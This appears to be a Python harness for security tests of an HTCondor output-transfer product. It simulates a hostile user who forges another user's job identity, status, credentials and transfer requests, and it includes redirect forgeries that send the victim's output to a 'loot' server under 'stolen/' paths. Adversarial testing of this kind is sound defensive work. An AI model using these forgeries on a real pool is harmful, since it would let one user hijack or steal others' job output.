"""A hostile user at the access point: jobs of his own that carry the values of another user's job.

Every attribute of :data:`FORGERIES` is combined with every way of :data:`WAYS` to set it. The matrix of
test_hostile_user_pool.py looks at each combination; :mod:`tests.pool.raider` draws from the same tables.
"""

from __future__ import annotations

import contextlib
import json
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any, NamedTuple

from tests.harness.destination import Destination
from tests.harness.pool import Submission
from tests.harness.pool.errors import PoolError
from tests.pool.conftest import Site

#: HTCondor's default, whatever the fragment says: nothing of the product may rely on that setting.
NO_WALL = "SECURE_JOB_ATTRS =\n"
#: Number of a run that no honest job reaches.
FORGED_RUN = 777


class Victim(NamedTuple):
    """The facts of another user's job that everybody can read in the queue.

    :param name: GlobalJobId.
    """

    job_id: str
    name: str
    run: int = 1
    manager: str = ""
    keys: str = ""
    user: str = ""

    @classmethod
    def of(cls, ad: Mapping[str, Any]) -> Victim:
        """Return the facts from a job's ad."""
        return cls(
            f"{ad['ClusterId']}.{ad['ProcId']}", str(ad["GlobalJobId"]), int(ad.get("NumShadowStarts") or 1),
            str(ad.get("StageOutManager") or ""), str(ad.get("StageOutKeys") or ""), str(ad.get("User") or ""),
        )  # fmt: skip

    @property
    def owner(self) -> str:
        """The account in User."""
        return self.user.partition("@")[0]


PROJECTION = ("ClusterId", "ProcId", "GlobalJobId", "NumShadowStarts", "StageOutManager", "StageOutKeys", "User")

_COMPLETED = {"JobStatus": "4", "TransferOutputStats": "[ STAGEOUTFilesCountLastRun = 2 ]", "NumShadowStarts": "{run}"}
#: Attributes that a forgery writes, with ClassAd expressions. {loot} is a server of the hostile user, the other names
#: are those of Victim. Each forgery writes the victim's GlobalJobId, too, unless it has another value for that.
FORGERIES: Mapping[str, Mapping[str, str]] = {
    "GlobalJobId": {},
    "NumShadowStarts, newer": {"NumShadowStarts": str(FORGED_RUN)},
    "NumShadowStarts, older": {"NumShadowStarts": "0"},
    "JobStatus, removed": {"JobStatus": "3"},
    "JobStatus, completed": _COMPLETED,
    "JobStatus, held": {"JobStatus": "5", "HoldReasonCode": "26", "HoldReasonSubCode": "9700"},
    "StageOutState": {"StageOutState": '"Delivered"', "StageOutRun": "{run}", "NumShadowStarts": "{run}"},
    "StageOutManager": {
        "StageOutManager": '"{manager}"', "StageOutKeys": '"{keys}"', "StageOutState": '"RetryWait"',
        "StageOutRun": "{run}", "NumShadowStarts": "{run}",
    },
    "StageOutRequest, redirect": {"NumShadowStarts": "{run}", "StageOutRequest": '"redirect run={run} f00d {loot}"'},
    "StageOutRequest, cancel": {"NumShadowStarts": "{run}", "StageOutRequest": '"cancel run={run}"'},
    "StageOutRequest, pause": {"NumShadowStarts": "{run}", "StageOutRequest": '"pause run={run}"'},
    "StageOutRequest, retry": {"NumShadowStarts": "{run}", "StageOutRequest": '"retry run={run}"'},
    "JobStatus, completed, redirect": {**_COMPLETED, "StageOutRequest": '"redirect run={run} f00d {loot}"'},
    "JobStatus, completed, cancel": {**_COMPLETED, "StageOutRequest": '"cancel run={run}"'},
    "JobStatus, completed, retry and redirect": {**_COMPLETED, "StageOutRequest": '"retry run={run}"'},
    "JobStatus, completed, pause": {**_COMPLETED, "StageOutRequest": '"pause run={run}"'},
    "StageOutRefused": {"StageOutRefused": '"f00d forged"', "StageOutKeptUntil": "1"},
    "AccountingGroup": {"AccountingGroup": '"{user}"', "AcctGroupUser": '"{owner}"'},
    "names of the startd": {
        "JobId": '"{job_id}"', "RemoteUser": '"{user}"', "RemoteOwner": '"{user}"', "ScheddName": '"ap"',
    },
    "User": {"User": '"{user}"', "Owner": '"{owner}"'},
    "DAGManJobId": {"DAGManJobId": "1", "NumShadowStarts": "{run}"},
    "no GlobalJobId": {"GlobalJobId": "undefined"},
    "no NumShadowStarts": {"NumShadowStarts": "undefined"},
}  # fmt: skip

#: Beginnings of forgeries with which HTCondor itself may never run a job: a false status, or another submitter (23.9).
MAY_STAY = ("JobStatus", "AccountingGroup")

#: Second steps of forgeries, in edited jobs: an owner who insists with a retry needs no record of the transfer.
LATER: Mapping[str, Mapping[str, str]] = {
    "JobStatus, completed, retry and redirect": {"StageOutRequest": '"redirect run={run} f00d {loot}"'},
}


def attributes_of(forgery: str, victim: Victim, loot: str) -> dict[str, str]:
    """Return the attributes of a forgery for this victim; GlobalJobId is the last one."""
    values = {**victim._asdict(), "owner": victim.owner, "loot": loot}
    found = {name: text.format(**values) for name, text in FORGERIES[forgery].items()}
    found["GlobalJobId"] = found.pop("GlobalJobId", f'"{victim.name}"')
    return found


#: Seconds between both steps: the agent looks once a second.
_SECOND_STEP_S = 4.0

_EDITS = """
import json, sys, htcondor2
schedd, refused = htcondor2.Schedd(), []
for jobs, name, value in json.load(sys.stdin):
    try:
        schedd.edit(jobs, name, value)
    except Exception as problem:
        refused.append(f"{name}: {problem}")
print(json.dumps(refused))
"""
_BINDINGS = """
import json, sys, htcondor2
found = []
for text, items in json.load(sys.stdin):
    try:
        found.append(htcondor2.Schedd().submit(htcondor2.Submit(text), itemdata=iter(items)).cluster())
    except Exception as problem:
        found.append(str(problem))
print(json.dumps(found))
"""
#: Sets attributes of its own job, then writes its output. The output file of condor_chirp tells what it was refused.
_CHIRPING = """#!/bin/sh
chirp=$(condor_config_val LIBEXEC)/condor_chirp
while read -r name value; do
    "$chirp" set_job_attr "$name" "$value" || echo "refused: $name" >&2
    "$chirp" set_job_attr_delayed "$name" "$value" || echo "refused: $name, delayed" >&2
done < attributes
sleep 3
for name in out1 out2; do { echo "run $(cat /proc/sys/kernel/random/uuid)"; } > "$name"; done
"""


@dataclass
class Attacker:
    """The hostile user.

    :param site: its ``submit`` submits his jobs. :param loot: a server of his own.
    :param copies: of his jobs for each forgery.
    :ivar jobs: ids of all jobs that he submitted. :ivar refused: what HTCondor did not let him do.
    """

    site: Site
    loot: Destination
    user: str = "bob"
    copies: int = 2
    jobs: list[str] = field(default_factory=list)
    refused: list[str] = field(default_factory=list)

    def attributes(self, forgery: str, victim: Victim) -> dict[str, str]:
        """Return what the forgery writes for this victim."""
        return attributes_of(forgery, victim, self.loot.url(f"stolen/{victim.job_id}"))

    def later(self, forgery: str, victim: Victim) -> dict[str, str]:
        """Return the second step of a forgery."""
        loot = self.loot.url(f"stolen/{victim.job_id}")
        return {name: text.format(loot=loot, run=victim.run) for name, text in LATER[forgery].items()}

    def submit(self, extra: str, *, queue: str = "queue", destination: str | None = None, **options: Any) -> Submission:
        """Submit jobs whose output goes to the hostile user's server."""
        if destination is None:
            destination = self.loot.url("own/$(Cluster).$(Process)")
        job = self.site.submit(self.user, extra=extra, queue=queue, destination=destination, **options)
        self.jobs += job.ids
        return job

    def edit(self, edits: Sequence[tuple[Sequence[str] | str, Mapping[str, str]]]) -> None:
        """Write attributes of committed jobs, one by one as the bindings do: one that is refused stops no other.

        :param edits: ids of jobs, or a constraint, with attributes.
        """
        rows = [(jobs, name, value) for jobs, attributes in edits for name, value in attributes.items()]
        self.refused += self.run(_EDITS, rows, "/")

    def run(self, script: str, stdin: Any, cwd: Any) -> Any:
        """Run a script of the bindings as the hostile user; what it prints as JSON."""
        done = self.site.pool.ap.run(["python3", "-c", script], user=self.user, cwd=cwd, stdin=json.dumps(stdin))
        return json.loads(done.stdout)


Victims = Mapping[str, Victim]
Jobs = dict[str, list[str]]


def _static(attacker: Attacker, victims: Victims, extra: str) -> Jobs:
    """Submit idle or held jobs, one cluster for all forgeries."""
    job = attacker.submit(extra, queue=f"queue {len(victims) * attacker.copies}")
    rest = iter(job.ids)
    return {forgery: [next(rest) for _ in range(attacker.copies)] for forgery in victims}


def _write(attacker: Attacker, victims: Victims, jobs: Jobs) -> Jobs:
    attacker.edit([(ids, attacker.attributes(forgery, victims[forgery])) for forgery, ids in jobs.items()])
    later = [(ids, attacker.later(forgery, victims[forgery])) for forgery, ids in jobs.items() if forgery in LATER]
    if later:
        time.sleep(_SECOND_STEP_S)
        attacker.edit(later)
    return jobs


def edit_idle(attacker: Attacker, victims: Victims) -> Jobs:
    """Edit jobs that are never matched."""
    return _write(attacker, victims, _static(attacker, victims, "requirements = false"))


def edit_held(attacker: Attacker, victims: Victims) -> Jobs:
    """Edit jobs that were submitted on hold."""
    return _write(attacker, victims, _static(attacker, victims, "hold = true"))


def edit_completed(attacker: Attacker, victims: Victims) -> Jobs:
    """Edit jobs that are completed, and whose own output waits on the node."""
    site, pool = attacker.site, attacker.site.pool
    count = len(victims) * attacker.copies
    job = attacker.submit("", queue=f"queue {count}", destination=site.url("away") + "/$(Cluster).$(Process)")
    waiting = f"ClusterId == {job.cluster} && JobStatus == 4 && StageOutManager isnt undefined"
    pool.wait(lambda: len(pool.jobs(waiting, ["ProcId"])) == count, timeout_s=120, what="his jobs to be completed")
    rest = iter(job.ids)
    return _write(attacker, victims, {name: [next(rest) for _ in range(attacker.copies)] for name in victims})


def edit_removed(attacker: Attacker, victims: Victims) -> Jobs:
    """Edit jobs that are removed and stay in the queue."""
    jobs = _write(attacker, victims, _static(attacker, victims, "requirements = false\nleave_in_queue = true"))
    attacker.site.pool.ap.run(["condor_rm", _cluster_of(jobs)], user=attacker.user)
    return jobs


def _cluster_of(jobs: Jobs) -> str:
    """Return the cluster of jobs that were submitted at once."""
    return next(iter(jobs.values()))[0].partition(".")[0]


def release_edited(attacker: Attacker, victims: Victims) -> Jobs:
    """Edit held jobs and release them to the node that holds the victims' output."""
    jobs = edit_held(attacker, victims)
    attacker.site.pool.ap.run(["condor_release", _cluster_of(jobs)], user=attacker.user)
    attacker.site.pool.reschedule()
    return jobs


def _lines(attributes: Mapping[str, str]) -> str:
    return "".join(f"MY.{name} = {value}\n" for name, value in attributes.items())


def submit_cluster(attacker: Attacker, victims: Victims, more: str = "") -> Jobs:
    """Write the attributes into the submit file of one job."""
    jobs: Jobs = {}
    for forgery, victim in victims.items():
        with _told(attacker, forgery):
            jobs[forgery] = [*attacker.submit(_lines(attacker.attributes(forgery, victim)) + more).ids]
    return jobs


def _proc_lines(attacker: Attacker, forgery: str, victim: Victim) -> tuple[str, str]:
    """Return lines and a queue statement whose jobs from the second on have a GlobalJobId of their own."""
    attributes = attacker.attributes(forgery, victim)
    value = attributes.pop("GlobalJobId")
    return f"{_lines(attributes)}MY.GlobalJobId = $(gid)", f'queue gid from (\n "none"\n {value}\n {value}\n)'


def submit_procs(attacker: Attacker, victims: Victims, more: str = "") -> Jobs:
    """Give each job of a cluster an id of its own: that stands in the job's ad and not in the cluster's."""
    jobs: Jobs = {}
    for forgery, victim in victims.items():
        lines, queue = _proc_lines(attacker, forgery, victim)
        with _told(attacker, forgery):
            jobs[forgery] = [*attacker.submit(f"{lines}\n{more}", queue=queue).ids]
    return jobs


def submit_factory(attacker: Attacker, victims: Victims) -> Jobs:
    """The same from a factory."""
    return submit_procs(attacker, victims, "max_materialize = 3")


def submit_set(attacker: Attacker, victims: Victims) -> Jobs:
    """The same in a job set."""
    return submit_procs(attacker, victims, 'MY.JobSetName = "forged"')


def submit_spooled(attacker: Attacker, victims: Victims) -> Jobs:
    """The same with condor_submit -spool: the jobs are committed on hold first."""
    jobs: Jobs = {}
    for forgery, victim in victims.items():
        lines, queue = _proc_lines(attacker, forgery, victim)
        with _told(attacker, forgery):
            jobs[forgery] = [*attacker.submit(lines, queue=queue, options=("-spool",)).ids]
    return jobs


def submit_bindings(attacker: Attacker, victims: Victims) -> Jobs:
    """Submit through the Python bindings, with item data."""
    place = attacker.submit("requirements = false").dir
    made = []
    for forgery, victim in victims.items():
        attributes = attacker.attributes(forgery, victim)
        value = attributes.pop("GlobalJobId")
        text = (
            "executable = job.sh\narguments = out1 out2\ntransfer_output_files = out1, out2\n"
            f"output_destination = {attacker.loot.url('own')}/$(Cluster).$(Process)\n"
            f"request_memory = 50\nrequest_disk = 10M\nlog = job.log\n{_lines(attributes)}MY.GlobalJobId = $(gid)\n"
        )
        made.append((text, [{"gid": '"none"'}, {"gid": value}, {"gid": value}]))
    jobs: Jobs = {}
    for forgery, cluster in zip(victims, attacker.run(_BINDINGS, made, place)):
        if isinstance(cluster, int):
            jobs[forgery] = [f"{cluster}.{proc}" for proc in range(3)]
        else:
            attacker.refused.append(f"{forgery}: {cluster}")
    attacker.jobs += [job for ids in jobs.values() for job in ids]
    attacker.site.pool.reschedule()
    return jobs


def edit_cluster(attacker: Attacker, victims: Victims) -> Jobs:
    """Edit the cluster's own ad of a factory whose first job runs, and wait until it has made the others."""
    pool = attacker.site.pool
    made = {name: attacker.submit("max_materialize = 1", queue="queue 3", env="SLEEP=8") for name in victims}
    rows = [
        (f"ClusterId == {made[forgery].cluster} && ProcId < 0", name, value)
        for forgery, victim in victims.items()
        for name, value in attacker.attributes(forgery, victim).items()
    ]
    flags = "jobs, name, value, flags=int.__new__(htcondor2.TransactionFlag, 1 << 7))"
    attacker.refused += attacker.run(_EDITS.replace("jobs, name, value)", flags), rows, "/")
    jobs = {forgery: [f"{job.cluster}.{proc}" for proc in range(3)] for forgery, job in made.items()}
    last = [ids[-1] for forgery, ids in jobs.items() if not forgery.startswith(MAY_STAY)]
    pool.wait(
        lambda: all(pool.q(job, ["ProcId"]) or pool.history(job) for job in last),
        timeout_s=240, what="the factories to make their last jobs", interval_s=2,
    )  # fmt: skip
    return jobs


def chirp(attacker: Attacker, victims: Victims) -> Jobs:
    """Write the attributes while the job runs, at once and with the next update."""
    jobs: Jobs = {}
    for forgery, victim in victims.items():
        rows = "".join(f"{name} {value}\n" for name, value in attacker.attributes(forgery, victim).items())
        text = f"""
executable = chirp.sh
transfer_input_files = attributes
transfer_output_files = out1, out2
output_destination = {attacker.loot.url("own")}/$(Cluster).$(Process)
MY.WantIOProxy = true
request_memory = 50
request_disk = 10M
queue
"""
        job = attacker.site.pool.submit(attacker.user, text, files={"chirp.sh": _CHIRPING, "attributes": rows})
        attacker.site.jobs.append(job)
        attacker.jobs += job.ids
        jobs[forgery] = [*job.ids]
    return jobs


@contextlib.contextmanager
def _told(attacker: Attacker, forgery: str) -> Iterator[None]:
    """Note a submission that HTCondor refuses."""
    try:
        yield
    except PoolError as problem:
        attacker.refused.append(f"{forgery}: {' '.join(str(problem).split())[-200:]}")


class Way(NamedTuple):
    """A way to write a job's attributes.

    :param copies: jobs for each forgery where the number is free: some stand behind the victim in every list.
    :param open: constraint for jobs that have not come to their own end; "" where they need not come to one.
    """

    act: Callable[[Attacker, Victims], Jobs]
    copies: int = 2
    open: str = "true"


WAYS: Mapping[str, Way] = {
    "edit, idle": Way(edit_idle, 20, ""),
    "edit, held": Way(edit_held, 20, ""),
    "edit, completed": Way(edit_completed, 4, ""),
    "edit, removed": Way(edit_removed, 20, ""),
    "edit, released": Way(release_edited),
    "edit, cluster": Way(edit_cluster),
    "submit": Way(submit_cluster),
    "submit, procs": Way(submit_procs),
    "submit, factory": Way(submit_factory),
    "submit, job set": Way(submit_set),
    "submit, spooled": Way(submit_spooled, open="JobStatus < 3"),
    "submit, bindings": Way(submit_bindings),
    "chirp": Way(chirp, open="JobStatus < 3"),
}
